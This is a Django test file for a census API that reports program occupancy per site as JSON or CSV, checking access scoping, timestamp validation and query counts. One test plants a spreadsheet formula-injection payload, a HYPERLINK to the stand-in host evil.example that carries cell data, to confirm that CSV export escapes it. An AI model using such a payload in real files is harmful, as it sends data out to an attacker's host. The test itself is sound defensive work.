"""GET /api/v1/census/: the same figures as the service, as JSON or CSV, for your sites only."""

import csv
import io

from django.db import connection
from django.test.utils import CaptureQueriesContext

from tests.api.helpers import assert_problem
from tests.factories import ProgramFactory, SiteFactory, placed_client


def test_a_coordinator_reads_their_sites_census(api, network, users):
    placed_client(network.austin_detox, users.austin)
    response = api.as_user(users.austin).get("/api/v1/census/", {"site": str(network.austin.pk)})
    assert response.status_code == 200
    detox = next(r for r in response.json() if r["level"] == "detox")
    assert (detox["occupied"], detox["capacity"], detox["available"]) == (1, 2, 1)


def test_another_sites_census_does_not_exist_for_you(api, network, users):
    response = api.as_user(users.houston).get("/api/v1/census/", {"site": str(network.austin.pk)})
    assert_problem(response, 404)
    everything = api.as_user(users.houston).get("/api/v1/census/").json()
    assert {row["site"] for row in everything} == {str(network.houston.pk)}


def test_a_bad_instant_is_a_400_naming_it(api, network, users):
    response = api.as_user(users.austin).get("/api/v1/census/", {"at": "2026-02-30T00:00:00Z"})
    assert_problem(response, 400, fields={"at"})


def test_an_instant_in_the_future_is_a_400_naming_it(api, network, users):
    response = api.as_user(users.austin).get("/api/v1/census/", {"at": "2099-01-01T00:00:00Z"})
    assert_problem(response, 400, fields={"at"})


def test_csv_cells_are_never_read_as_formulas(api, network, users):
    # given a program whose name a spreadsheet would run as a formula
    network.austin_detox.name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    network.austin_detox.save()
    body = api.as_user(users.austin).get("/api/v1/census/", {"format": "csv"}).content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    names = {row["program_name"] for row in rows}
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


def test_csv_says_what_json_says(api, network, users):
    placed_client(network.austin_detox, users.austin)
    austin = api.as_user(users.austin)
    as_json = austin.get("/api/v1/census/").json()
    as_csv = austin.get("/api/v1/census/", {"format": "csv"})
    assert as_csv["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(as_csv.content.decode())))
    assert [row["program"] for row in rows] == [row["program"] for row in as_json]
    assert [int(row["occupied"]) for row in rows] == [row["occupied"] for row in as_json]
    by_accept = austin.get("/api/v1/census/", HTTP_ACCEPT="text/csv")
    assert by_accept.content == as_csv.content


def test_the_census_costs_the_same_queries_for_few_and_many_programs(api, network, users):
    admin = api.as_user(users.admin)

    def queries():
        with CaptureQueriesContext(connection) as ctx:
            assert admin.get("/api/v1/census/").status_code == 200
        return len(ctx.captured_queries)

    few = queries()
    for _ in range(5):
        site = SiteFactory()
        for program in (network.austin_detox, network.austin_iop):
            ProgramFactory(site=site, level=program.level, capacity=4)
    assert queries() == few
